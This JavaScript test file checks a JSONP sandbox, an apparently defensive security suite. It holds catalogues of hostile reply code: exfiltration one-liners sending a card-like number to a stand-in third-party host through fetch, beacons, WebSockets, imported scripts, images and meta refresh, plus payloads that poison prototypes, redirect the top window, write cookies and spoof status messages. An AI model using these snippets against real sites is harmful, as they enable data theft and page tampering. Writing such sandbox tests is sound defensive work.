// Replies that do all they can: nothing changes on the page, nothing reaches a third party, and the next call works.

import assert from "node:assert/strict";
import { after, before, beforeEach, test } from "node:test";
import { engineName } from "./harness/browser.mjs";
import { isAll } from "./harness/extent.mjs";
import { openJsonpStage, withScript, withoutPolicy } from "./harness/jsonp.mjs";
import { waitFor } from "./harness/wait.mjs";
import { pageState } from "./harness/watch.mjs";

// The longest that code of a reply stays, in milliseconds, so that what it began could arrive. In the worker it has to loop for
// that; in the inner frame it takes our handler away and calls back later, if its document still lives.
const STAY = 300;
// When a call is given up whose document may have gone elsewhere. A slow machine needs a second to start one.
const GIVE_UP = 10 * STAY;
// How often a way out is tried before it counts as closed.
const ROUNDS = 10;
const stay = `const end = performance.now() + ${STAY}; while (performance.now() < end);`;

// Ways to send the number to somebody else, out of a worker; each names itself in the path.
const leaks = {
  fetch: "fetch(THIRD, { mode: 'no-cors' })",
  keepalive: "fetch(THIRD, { mode: 'no-cors', keepalive: true })",
  post: "fetch(THIRD, { method: 'POST', mode: 'no-cors', body: '4111' })",
  xhr: "const x = new XMLHttpRequest(); x.open('GET', THIRD, false); x.send()",
  websocket: "new WebSocket(THIRD.replace('http', 'ws'))",
  eventsource: "new EventSource(THIRD)",
  script: "importScripts(THIRD)",
  "nested-worker": "new Worker(URL.createObjectURL(new Blob([`importScripts('${THIRD}')`])))",
  "nested-fetch": "new Worker(URL.createObjectURL(new Blob([`fetch('${THIRD}', { mode: 'no-cors' })`])))",
  module: "import(THIRD)",
};
// A worker in the worker starts when the code has returned, and then it is too late, also without our policy.
const tooLate = ["nested-worker", "nested-fetch"];
// WebKit begins this one from a timer, for which there is no turn either.
if (engineName === "webkit") tooLate.push("eventsource");

// Ways to act on the page, its windows, its storage or our code; none of them may matter.
const attacks = {
  globals: "self.parent.stolen = top.stolen = 1",
  document: "document.body.innerHTML = ''",
  location: "top.location = 'https://example.com/'; location = 'https://example.com/'",
  history: "history.back()",
  dialogs: "alert(1); confirm(1); prompt(1); print(); open('https://example.com/')",
  focus: "self.focus(); parent.focus()",
  messages: "parent.postMessage('hello', '*'); top.postMessage('hello', '*')",
  broadcast: "new BroadcastChannel('shop').postMessage('hello')",
  database: "indexedDB.open('stolen')",
  cache: "caches.open('stolen')",
  files: "navigator.storage.getDirectory()",
  locks: "navigator.locks.request('stolen', () => new Promise(() => {}))",
  prototypes: `JSON.stringify = () => '"forged"'; JSON.parse = null; self.postMessage = () => {}; Object.prototype.toJSON = undefined;
    Array.prototype[Symbol.iterator] = null; Array.isArray = () => false; Array.prototype.push = MessagePort.prototype.postMessage = null;
    EventTarget.prototype.addEventListener = Promise.prototype.then = null; Function.prototype.call = Function.prototype.apply = null`,
  listens: "self.onmessage = ({ data }) => postMessage(data); addEventListener('message', ({ ports }) => ports[0].postMessage(['reply', '1']))",
  throws: "queueMicrotask(() => { throw new Error(location.href) }); setTimeout(() => { throw 1 }); Promise.reject(new Error(location.href))",
};

// What code says past its callback: the page is told one of our words, and never that nothing was sent.
const lies = {
  "postMessage(['failed', 'request'])": "shape",
  "postMessage(['failed', 'csp'])": "shape",
  "postMessage(['failed', 'aborted'])": "shape",
  "postMessage(['failed', 'silent'])": "silent",
  "postMessage(['failed', { toString: 1 }])": "shape",
  "postMessage(['started'])": "shape",
  "postMessage(['reply', { id: 1 }])": "shape",
  "postMessage(['reply', 'x'.repeat(262145)])": "shape",
  "postMessage(null)": "shape",
  "postMessage('hello')": "shape",
  "postMessage({ 0: 'reply', 1: '1', length: 2 })": "shape",
  "close()": "silent",
};

// The same out of the inner frame, which has a window. What is known to get out there stands in SECURITY.md, not here.
const windowLeaks = {
  fetch: "fetch(THIRD, { mode: 'no-cors' })",
  beacon: "navigator.sendBeacon(THIRD, '4111')",
  image: "new Image().src = THIRD",
  script: "document.head.append(Object.assign(document.createElement('script'), { src: THIRD }))",
  style: "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: THIRD }))",
  frame: "document.head.append(Object.assign(document.createElement('iframe'), { src: THIRD }))",
  websocket: "new WebSocket(THIRD.replace('http', 'ws'))",
  navigation: "location = THIRD",
  refresh: "document.head.insertAdjacentHTML('beforeend', `<meta http-equiv=refresh content=\"0; url=${THIRD}\">`)",
};
const windowAttacks = {
  globals: "parent.stolen = 1; top.stolen = 1",
  document: "top.document.body.innerHTML = ''",
  location: "top.location = 'https://example.com/'",
  link: "document.head.insertAdjacentHTML('beforeend', '<a target=_top href=https://example.com>'); document.querySelector('a').click()",
  form: "document.head.insertAdjacentHTML('beforeend', '<form target=_top action=https://example.com>'); document.forms[0].submit()",
  dialogs: "alert(1); confirm(1); prompt(1); print(); open('https://example.com/')",
  storage: "document.cookie = 'stolen=1'; localStorage.stolen = 1",
  prototypes: `JSON.stringify = () => '"forged"'; MessagePort.prototype.postMessage = () => {}; Function.prototype.bind = null; Array.isArray = () => false`,
};

let stage;
const attempt = (code) => `try { ${code} } catch {}`;
const answering = (callback, code) => `${code}\n${callback}({ "id": "ran" })`;
const answeringLater = (callback, code) => `document.currentScript.onload = null; ${code}\nsetTimeout(${callback}, ${STAY}, { "id": "ran" })`;

/** Every reply by its name: the code, then as much time as it needs, then the call that shows that it ran. */
function scripts(third) {
  const named = ([way, name, code]) => [`${way}-${name}`, (callback) => (way === "window-leak" ? answeringLater : answering)(callback, code)];
  const leaking = (way) => ([name, code]) => [way, name, `const THIRD = "${third}/${way}-${name}";\n${attempt(code)}\n${way === "leak" ? stay : ""}`];
  const acting = (way) => ([name, code]) => [way, name, code.split(";").map(attempt).join("\n")];
  const all = [
    ...Object.entries(leaks).map(leaking("leak")),
    ...Object.entries(windowLeaks).map(leaking("window-leak")),
    ...Object.entries(attacks).map(([name, code]) => ["attack", name, name === "prototypes" ? attempt(code) : acting("attack")([name, code])[2]]),
    ...Object.entries(windowAttacks).map(acting("window-attack")),
  ];
  const told = Object.keys(lies).map((code, index) => [`lie-${index}`, () => code]);
  return Object.fromEntries([...all.map(named), ...told]);
}

before(async () => {
  const replies = {};
  stage = await openJsonpStage(replies);
  Object.assign(replies, scripts(stage.third.origin));
  const throwing = "Worker = function () { throw new Error() }";
  const { files } = stage;
  files.inner = withScript(files.jsonp, throwing);
  files.open = withoutPolicy(files.jsonp);
  files["inner-open"] = withoutPolicy(files.inner);
});
after(() => stage?.close());
// After each reply all of the page is looked at, so the next may have the same one; with everything wanted each has its own.
let isUntouched = false;
beforeEach(async () => {
  if (isUntouched && !isAll) return;
  await stage.open("strict");
  await run(() => document.querySelector("#card").focus());
});

const run = (script, ...given) => stage.driver.executeScript(script, ...given);

const state = () => pageState(stage.driver);

async function changesNothing(as, file, deadline) {
  isUntouched = false;
  const before = await state();
  const windows = await stage.driver.getAllWindowHandles();
  const told = await stage.call(as, file, deadline);
  assert.equal((await stage.call("good", file)).text, '{"id":"good"}');
  const now = await state();
  // The one thing on this list that a window can do, also where it may not go: SECURITY.md names it.
  if (as === "window-leak-navigation") delete before.steps, delete now.steps;
  assert.deepEqual(now, before);
  assert.deepEqual(await stage.driver.getAllWindowHandles(), windows);
  assert.equal(stage.gateway.of(as).length, 1);
  isUntouched = true;
  return told;
}

for (const name of Object.keys(leaks)) {
  test(`code in the worker sends nothing to a third party by ${name}`, async () => {
    assert.equal((await changesNothing(`leak-${name}`)).text, '{"id":"ran"}');
    assert.deepEqual([stage.third.paths, stage.third.connections()], [[], 0]);
  });
}

for (const name of Object.keys(attacks)) {
  test(`code in the worker changes nothing by ${name}`, async () => {
    assert.equal((await changesNothing(`attack-${name}`)).text, '{"id":"ran"}');
  });
}

test("whatever code in the worker says of itself, the page is told words of ours alone", async () => {
  for (const [index, [lie, code]] of Object.entries(lies).entries()) {
    const { failed, text } = await changesNothing(`lie-${index}`);
    assert.deepEqual([failed, text], [code, undefined], lie);
  }
});

test("hostile replies beside forty good ones change none of them", async () => {
  const names = [...Array.from({ length: 40 }, (_, index) => `good-${index}`), "attack-prototypes", "attack-messages", "attack-listens"];
  const told = await stage.callAll(names.map((name) => stage.request(name)));
  for (const [index, { text }] of told.entries()) assert.equal(text, index < 40 ? `{"id":"good-${index}"}` : '{"id":"ran"}');
  assert.deepEqual(await run(() => heard), []);
});

for (const name of Object.keys(windowLeaks)) {
  test(`code in the inner frame sends nothing to a third party by ${name}`, async () => {
    const { text, failed } = await changesNothing(`window-leak-${name}`, "inner", GIVE_UP);
    // A document that wanted to go elsewhere may be gone, and answers nobody then.
    const mayBeGone = ["navigation", "refresh"].includes(name) && failed === "aborted";
    assert.ok(mayBeGone || text === '{"id":"ran"}', text ?? failed);
    // Connections are not counted here: a window can open them, and no policy forbids that.
    assert.deepEqual(stage.third.paths, []);
  });
}

for (const name of Object.keys(windowAttacks)) {
  test(`code in the inner frame changes nothing by ${name}`, async () => {
    assert.equal((await changesNothing(`window-attack-${name}`, "inner")).text, '{"id":"ran"}');
  });
}

// Last, because from here on the third party has heard of somebody.
for (const [way, known, file] of [["leak", leaks, "open"], ["window-leak", windowLeaks, "inner-open"]]) {
  test(`without the policy the same code reaches the third party, so the tests above would have seen it: ${file}`, async () => {
    const { third } = stage;
    const arrive = Object.keys(known).filter((name) => !tooLate.includes(name));
    const arrived = () => arrive.filter((name) => third.paths.includes(`/${way}-${name}`));
    // A browser that begins one from a timer may end the worker before: that one is tried again.
    for (let round = 0; round < ROUNDS && arrived().length < arrive.length; round++) {
      for (const name of arrive.filter((one) => !arrived().includes(one))) await stage.call(`${way}-${name}`, file, GIVE_UP);
      await waitFor("every way out", () => arrived().length === arrive.length, GIVE_UP).catch(() => {});
    }
    assert.deepEqual(arrived(), arrive);
    assert.ok(third.connections() > 0);
  });
}
